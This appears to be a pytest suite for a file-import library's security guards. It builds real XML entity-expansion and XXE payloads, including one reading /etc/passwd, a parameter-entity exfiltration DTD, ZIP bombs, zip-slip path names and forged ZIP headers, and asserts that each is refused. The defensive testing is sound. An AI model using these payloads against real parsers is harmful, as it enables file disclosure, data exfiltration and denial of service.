"""Hostile-file guards (BI-1, BI-2, BI-3): real hostile files built in tmp_path, no mocks.

Every refusal must be a LanternError whose message names the file and the reason.
"""

from __future__ import annotations

import hashlib
import http.server
import os
import stat
import struct
import threading
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from lantern.errors import LanternError
from lantern.security.files import (
    DEFAULT_LIMITS,
    FileLimits,
    ZipMember,
    check_file_size,
    check_zip,
    iter_zip_member,
    parse_xml,
    read_zip_member,
    safe_extract,
)

MiB = 1024 * 1024


def refused(excinfo: pytest.ExceptionInfo[LanternError], name: object, *reasons: str) -> str:
    """Assert the message is one line, names the file, and gives each reason."""
    message = str(excinfo.value)
    assert "\n" not in message
    assert str(name) in message
    for reason in reasons:
        assert reason in message, f"{reason!r} not in {message!r}"
    return message


# ---- a local web server that records every request, to prove nothing was fetched -------------


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        self.hits.append(self.path)
        body = b"<!ENTITY % all \"<!ENTITY send SYSTEM 'http://127.0.0.1/x?%file;'>\">"
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def web() -> Iterator[tuple[str, list[str]]]:
    hits: list[str] = []
    handler = type("Handler", (_Recorder,), {"hits": hits})
    server = http.server.HTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", hits
    finally:
        server.shutdown()
        server.server_close()


# ---- XML (BI-1) -------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE report [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<report><name>&xxe;</name></report>
"""


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_billion_laughs_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, "laughs.xml", BILLION_LAUGHS)
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path)
    refused(excinfo, path, "refused", "declares a DTD", "never", "expands entities")


def test_quadratic_blowup_is_refused(tmp_path: Path) -> None:
    # One 100 KB entity used 20,000 times: 2 GB of text from a 200 KB file.
    entity = b"A" * 100_000
    body = b"&a;" * 20_000
    data = b'<!DOCTYPE q [<!ENTITY a "' + entity + b'">]><q>' + body + b"</q>"
    path = write(tmp_path, "quadratic.xml", data)
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path)
    refused(excinfo, path, "refused", "declares a DTD")


def test_xxe_local_file_is_refused_and_nothing_leaks(tmp_path: Path) -> None:
    path = write(tmp_path, "xxe.xml", XXE)
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path)
    message = refused(excinfo, path, "refused", "declares a DTD")
    assert "root:" not in message


def test_external_dtd_over_http_is_refused_before_any_fetch(
    tmp_path: Path, web: tuple[str, list[str]]
) -> None:
    url, hits = web
    data = f'<?xml version="1.0"?><!DOCTYPE r SYSTEM "{url}/evil.dtd"><r/>'.encode()
    path = write(tmp_path, "external.xml", data)
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path)
    refused(excinfo, path, "refused", "declares a DTD", "evil.dtd")
    assert hits == []  # the server saw no request: the DTD was refused, not fetched


def test_parameter_entity_exfiltration_is_refused(
    tmp_path: Path, web: tuple[str, list[str]]
) -> None:
    url, hits = web
    data = (
        '<?xml version="1.0"?><!DOCTYPE r [\n'
        '<!ENTITY % file SYSTEM "file:///etc/passwd">\n'
        f'<!ENTITY % dtd SYSTEM "{url}/exfil.dtd">\n'
        "%dtd; %all;]><r>&send;</r>"
    ).encode()
    path = write(tmp_path, "param.xml", data)
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path)
    refused(excinfo, path, "refused", "declares a DTD")
    assert hits == []


def test_deep_nesting_is_refused_fast(tmp_path: Path) -> None:
    depth = 100_000
    path = write(tmp_path, "deep.xml", b"<a>" * depth + b"</a>" * depth)
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path)
    refused(excinfo, path, "refused", f"nested deeper than {DEFAULT_LIMITS.max_xml_depth}")


def test_deep_nesting_never_closed_is_refused_by_depth(tmp_path: Path) -> None:
    path = write(tmp_path, "open.xml", b"<a>" * 100_000)
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path, max_depth=50)
    refused(excinfo, path, "nested deeper than 50")


def test_nesting_at_the_limit_parses() -> None:
    root = parse_xml(b"<a>" * 50 + b"</a>" * 50, max_depth=50)
    assert root.tag == "a"


def test_oversize_xml_is_refused_from_path_and_bytes(tmp_path: Path) -> None:
    data = b"<r>" + b"x" * 5000 + b"</r>"
    path = write(tmp_path, "big.xml", data)
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path, max_bytes=1000)
    refused(excinfo, path, "refused", "over the 1,000 bytes limit")
    with pytest.raises(LanternError) as excinfo:
        parse_xml(data, max_bytes=1000, name="upload.xml")
    refused(excinfo, "upload.xml", "refused", "over the 1,000 bytes limit")


def test_malformed_xml_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, "broken.xml", b"<r><unclosed></r>")
    with pytest.raises(LanternError) as excinfo:
        parse_xml(path)
    refused(excinfo, path, "not well-formed XML", "mismatched tag")


def test_undeclared_entity_is_refused_as_malformed() -> None:
    with pytest.raises(LanternError) as excinfo:
        parse_xml(b"<r>&xxe;</r>", name="report.xml")
    refused(excinfo, "report.xml", "not well-formed XML", "undefined entity")


def test_device_is_refused_without_reading() -> None:
    with pytest.raises(LanternError) as excinfo:
        parse_xml("/dev/zero")
    refused(excinfo, "/dev/zero", "refused", "not a regular file")


def test_good_xml_parses_from_path_and_bytes(tmp_path: Path) -> None:
    data = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<report xmlns="http://pa.cellebrite.com/report/2.0" version="7">'
        '<contact id="1"><name>Alice Ng</name><phone>+447700900123</phone></contact>'
        '<contact id="2"><name>Bo £ Ørsted</name></contact>'
        "</report>"
    ).encode()
    path = write(tmp_path, "report.xml", data)
    for source in (path, str(path), data):
        root = parse_xml(source)
        ns = "{http://pa.cellebrite.com/report/2.0}"
        assert root.tag == f"{ns}report"
        names = [el.text for el in root.iter(f"{ns}name")]
        assert names == ["Alice Ng", "Bo £ Ørsted"]


# ---- file size (BI-3) -------------------------------------------------------------------------


def test_ten_gigabyte_sparse_file_is_refused_instantly(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as f:
        f.truncate(10 * 1024**3)  # sparse: no disk used, nothing to read
    with pytest.raises(LanternError) as excinfo:
        check_file_size(path)
    refused(excinfo, path, "refused", "10.0 GiB", "over the 2.0 GiB limit")


def test_file_under_the_limit_returns_its_size(tmp_path: Path) -> None:
    path = write(tmp_path, "ok.csv", b"a,b\n1,2\n")
    assert check_file_size(path) == 8
    with pytest.raises(LanternError) as excinfo:
        check_file_size(path, FileLimits(max_file_bytes=4))
    refused(excinfo, path, "refused", "8 bytes", "over the 4 bytes limit")


def test_pipe_and_missing_file_are_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.csv"
    os.mkfifo(fifo)
    with pytest.raises(LanternError) as excinfo:
        check_file_size(fifo)
    refused(excinfo, fifo, "refused", "not a regular file")
    with pytest.raises(LanternError) as excinfo:
        check_file_size(tmp_path / "gone.csv")
    refused(excinfo, tmp_path / "gone.csv", "no such file")


# ---- ZIP helpers: build real archives, then patch their headers --------------------------------


def make_zip(path: Path, entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in entries.items():
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=method)
    return path


def central_entries(data: bytes) -> list[int]:
    """Offsets of each central-directory header, found from the end record."""
    eocd = data.rfind(b"PK\x05\x06")
    count, _, cd_offset = struct.unpack_from("<HII", data, eocd + 10)
    offsets, pos = [], cd_offset
    for _ in range(count):
        assert data[pos : pos + 4] == b"PK\x01\x02"
        offsets.append(pos)
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", data, pos + 28)
        pos += 46 + name_len + extra_len + comment_len
    return offsets


def patch(data: bytearray, at: int, value: int) -> None:
    struct.pack_into("<I", data, at, value)


# Central-directory field offsets (APPNOTE 4.3.12) and local-header ones (4.3.7).
CD_FLAGS, CD_COMPRESSED, CD_SIZE, CD_OFFSET = 8, 20, 24, 42
LOCAL_SIZE = 22


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """200 MB of zeros, deflated and streamed in: a ~200 KB archive at ratio ~1000:1."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.zip"
    block = bytes(MiB)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf, zf.open("zeros.bin", "w") as w:
        for _ in range(200):
            w.write(block)
    return path


# ---- ZIP (BI-2) ------------------------------------------------------------------------------


def test_zip_bomb_is_refused_by_ratio(bomb: Path) -> None:
    assert bomb.stat().st_size < 1 * MiB
    with pytest.raises(LanternError) as excinfo:
        check_zip(bomb)
    refused(excinfo, bomb, "refused", "'zeros.bin'", "compression ratio", "over the 200:1 limit")


def test_zip_bomb_is_refused_by_declared_total(bomb: Path) -> None:
    with pytest.raises(LanternError) as excinfo:
        check_zip(bomb, max_ratio=10_000, max_total_bytes=100 * MiB)
    refused(excinfo, bomb, "refused", "declares 200.0 MiB uncompressed", "over the 100.0 MiB limit")
    with pytest.raises(LanternError) as excinfo:
        check_zip(bomb, max_ratio=10_000, max_entry_bytes=100 * MiB)
    refused(excinfo, bomb, "refused", "'zeros.bin'", "over the 100.0 MiB limit for one entry")


def test_zip_bomb_stream_stops_at_the_limit(bomb: Path) -> None:
    got = 0
    with pytest.raises(LanternError) as excinfo:
        for chunk in iter_zip_member(bomb, "zeros.bin", limit=3 * MiB):
            got += len(chunk)
    assert got <= 3 * MiB
    refused(excinfo, bomb, "refused", "'zeros.bin'", "decompresses to more than 3.0 MiB")


def test_bomb_safe_extract_writes_nothing(bomb: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    with pytest.raises(LanternError) as excinfo:
        safe_extract(bomb, out)
    refused(excinfo, bomb, "refused", "compression ratio")
    assert not out.exists() or list(out.iterdir()) == []


def test_recursive_bomb_stops_at_the_inner_archive(bomb: Path, tmp_path: Path) -> None:
    # 42.zip style: the outer archive looks harmless; the bomb is one level down.
    outer = make_zip(tmp_path / "outer.zip", {"inner.zip": bomb.read_bytes()}, zipfile.ZIP_STORED)
    (member,) = check_zip(outer)
    assert member.is_archive
    blob = safe_extract(outer, tmp_path / "blobs")["inner.zip"]
    with pytest.raises(LanternError) as excinfo:
        check_zip(blob, nesting=1)
    refused(excinfo, blob, "refused", "'zeros.bin'", "compression ratio")


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../../evil.txt", "climbs out of the archive with '..'"),
        ("docs/../../evil.txt", "climbs out of the archive with '..'"),
        ("..\\..\\evil.txt", "climbs out of the archive with '..'"),
        ("/etc/passwd", "has an absolute path"),
        ("\\\\server\\share\\evil.txt", "has an absolute path"),
        ("C:/Windows/evil.txt", "names a drive letter"),
        ("c:evil.txt", "names a drive letter"),
        ("evil\x1b[2J.txt", "control characters"),
    ],
)
def test_zip_slip_names_are_refused(tmp_path: Path, name: str, reason: str) -> None:
    path = make_zip(tmp_path / "slip.zip", {"ok.txt": b"fine", name: b"pwned"})
    out = tmp_path / "out"
    with pytest.raises(LanternError) as excinfo:
        safe_extract(path, out)
    refused(excinfo, path, "refused", reason)
    assert not (tmp_path / "evil.txt").exists()
    assert not out.exists() or list(out.iterdir()) == []


def test_nul_in_name_is_refused(tmp_path: Path) -> None:
    # zipfile cuts names at NUL when writing, so patch both copies of the name afterwards.
    path = make_zip(tmp_path / "nul.zip", {"evil.txt.csv": b"x"})
    path.write_bytes(path.read_bytes().replace(b"evil.txt.csv", b"evil.txt\x00csv"))
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "control characters")


def test_symlink_entry_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "link.zip"
    info = zipfile.ZipInfo("contacts.csv")
    info.create_system = 3  # unix, so external_attr carries a file mode
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(info, "/etc/passwd")
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "'contacts.csv'", "is a symbolic link")


def test_duplicate_names_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "dupes.zip"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns; we build it on purpose
        with zipfile.ZipFile(path, "w") as zf:
            zf.writestr("calls.csv", "a,b\n1,2\n")
            zf.writestr("calls.csv", "a,b\n6,6\n")
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "'calls.csv'", "appears more than once")


def test_many_tiny_entries_are_refused(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "many.zip", {f"f{i}": b"" for i in range(2_000)}, zipfile.ZIP_STORED)
    with pytest.raises(LanternError) as excinfo:
        check_zip(path, max_entries=1_000)
    refused(excinfo, path, "refused", "2,000 entries", "more than the 1,000 limit")


def test_hundred_thousand_entries_are_refused_by_default_without_listing(tmp_path: Path) -> None:
    path = tmp_path / "100k.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for i in range(100_000):
            zf.writestr(f"f{i}", b"")
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "100,000 entries", "more than the 50,000 limit")


def test_entry_count_lie_in_end_record_does_not_help(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "lie.zip", {f"f{i}": b"" for i in range(20)}, zipfile.ZIP_STORED)
    data = bytearray(path.read_bytes())
    eocd = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, eocd + 8, 1, 1)  # claim one entry; the directory holds 20
    path.write_bytes(bytes(data))
    with pytest.raises(LanternError) as excinfo:
        check_zip(path, max_entries=10)
    refused(excinfo, path, "refused", "20 entries", "more than the 10 limit")


def test_fully_overlapped_entries_are_refused(tmp_path: Path) -> None:
    # Two directory entries pointing at the same local header: Fifield's overlapped bomb.
    path = make_zip(tmp_path / "overlap.zip", {"a.txt": b"A" * 500, "b.txt": b"B" * 500})
    data = bytearray(path.read_bytes())
    _, cd_b = central_entries(data)
    patch(data, cd_b + CD_OFFSET, 0)
    path.write_bytes(bytes(data))
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "'a.txt'", "'b.txt'", "overlap")


def test_quoted_overlap_is_refused(tmp_path: Path) -> None:
    # a.txt's compressed span is stretched over b.txt's local header (the "quoted" variant).
    path = make_zip(
        tmp_path / "quoted.zip", {"a.txt": b"A" * 500, "b.txt": b"B" * 500}, zipfile.ZIP_STORED
    )
    data = bytearray(path.read_bytes())
    cd_a, cd_b = central_entries(data)
    b_offset = struct.unpack_from("<I", data, cd_b + CD_OFFSET)[0]
    patch(data, cd_a + CD_COMPRESSED, b_offset)  # now reaches well past b.txt's header
    path.write_bytes(bytes(data))
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "'a.txt'", "'b.txt'", "overlap")


def test_lying_compress_size_is_refused(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "stretch.zip", {"a.txt": b"A" * 500})
    data = bytearray(path.read_bytes())
    (cd_a,) = central_entries(data)
    patch(data, cd_a + CD_COMPRESSED, 10_000)  # claims more compressed bytes than exist
    path.write_bytes(bytes(data))
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "'a.txt'", "runs into the central directory")


def test_local_name_mismatch_is_refused(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "names.zip", {"a.txt": b"hello"})
    data = bytearray(path.read_bytes())
    local = data.index(b"a.txt")  # the local header's copy comes first
    data[local : local + 5] = b"x.exe"
    path.write_bytes(bytes(data))
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "'a.txt'", "different name in its local header")


@pytest.fixture
def liar(tmp_path: Path) -> Path:
    """4 MiB of text whose central and local headers both claim 1,000 bytes."""
    path = make_zip(tmp_path / "liar.zip", {"big.txt": b"0123456789abcdef" * (4 * MiB // 16)})
    data = bytearray(path.read_bytes())
    (cd,) = central_entries(data)
    patch(data, cd + CD_SIZE, 1_000)
    patch(data, LOCAL_SIZE, 1_000)  # the only local header starts at offset 0
    path.write_bytes(bytes(data))
    return path


def test_lying_file_size_passes_inspection_but_stream_stops_at_real_bytes(liar: Path) -> None:
    (member,) = check_zip(liar)
    assert member.size == 1_000  # the lie
    got = 0
    with pytest.raises(LanternError) as excinfo:
        for chunk in iter_zip_member(liar, member, limit=64 * 1024):
            got += len(chunk)
    assert got <= 64 * 1024
    refused(
        excinfo,
        liar,
        "refused",
        "'big.txt'",
        "decompresses to more than 64.0 KiB",
        "declares 1,000 bytes",
    )


def test_lying_file_size_is_caught_after_a_full_read(liar: Path) -> None:
    with pytest.raises(LanternError) as excinfo:
        read_zip_member(liar, "big.txt", limit=16 * MiB)
    refused(excinfo, liar, "refused", "declares 1,000 bytes but holds 4,194,304", "headers lie")


def test_lying_file_size_safe_extract_leaves_nothing(liar: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    with pytest.raises(LanternError) as excinfo:
        safe_extract(liar, out, FileLimits(max_zip_total_bytes=1 * MiB))
    refused(excinfo, liar, "refused", "'big.txt'", "decompresses to more than 1.0 MiB")
    assert list(out.iterdir()) == []  # the partial file was removed


def test_encrypted_and_bzip2_entries_are_refused(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "bz.zip", {"a.txt": b"hello" * 100}, zipfile.ZIP_BZIP2)
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "'a.txt'", "compression method 12")
    path = make_zip(tmp_path / "enc.zip", {"a.txt": b"hello"})
    data = bytearray(path.read_bytes())
    (cd,) = central_entries(data)
    struct.pack_into("<H", data, cd + CD_FLAGS, 1)
    path.write_bytes(bytes(data))
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "refused", "'a.txt'", "is encrypted")


def test_nested_archives_are_flagged_and_depth_is_limited(tmp_path: Path) -> None:
    inner = make_zip(tmp_path / "inner.zip", {"x.txt": b"x"})
    outer = make_zip(tmp_path / "outer.zip", {"inner.zip": inner.read_bytes(), "a.txt": b"a"})
    members = {m.name: m for m in check_zip(outer)}
    assert members["inner.zip"].is_archive and not members["a.txt"].is_archive
    with pytest.raises(LanternError) as excinfo:
        check_zip(inner, nesting=3)
    refused(excinfo, inner, "refused", "nested 3 deep", "more than the 2 limit")


def test_not_a_zip_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, "fake.zip", b"this is not an archive")
    with pytest.raises(LanternError) as excinfo:
        check_zip(path)
    refused(excinfo, path, "not a readable ZIP archive")


def test_good_zip_reads_and_extracts_to_content_addressed_names(tmp_path: Path) -> None:
    entries = {
        "report/contacts.csv": b"name,phone\nAlice,+447700900123\n",
        "report/copy.csv": b"name,phone\nAlice,+447700900123\n",
        "report/calls.csv": b"from,to\n1,2\n" * 10_000,
    }
    path = make_zip(tmp_path / "export.zip", entries)
    with zipfile.ZipFile(path, "a") as zf:
        zf.writestr(zipfile.ZipInfo("report/empty/"), b"")
    members = check_zip(path)
    assert [m.name for m in members] == [*entries, "report/empty/"]
    assert all(isinstance(m, ZipMember) for m in members)
    assert read_zip_member(path, "report/calls.csv", limit=1 * MiB) == entries["report/calls.csv"]
    assert read_zip_member(path, members[0], limit=1 * MiB) == entries["report/contacts.csv"]

    out = tmp_path / "blobs"
    stored = safe_extract(path, out)
    assert set(stored) == set(entries)  # folders are skipped
    for name, data in entries.items():
        assert stored[name] == out / hashlib.sha256(data).hexdigest()
        assert stored[name].read_bytes() == data
    assert stored["report/contacts.csv"] == stored["report/copy.csv"]  # same content, one blob
    assert sorted(p.name for p in out.iterdir()) == sorted({p.name for p in stored.values()})
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o400 for p in out.iterdir())  # read-only


def test_missing_member_is_a_clear_error(tmp_path: Path) -> None:
    path = make_zip(tmp_path / "a.zip", {"a.txt": b"a"})
    with pytest.raises(LanternError) as excinfo:
        read_zip_member(path, "nope.txt", limit=100)
    refused(excinfo, path, "no entry 'nope.txt'")
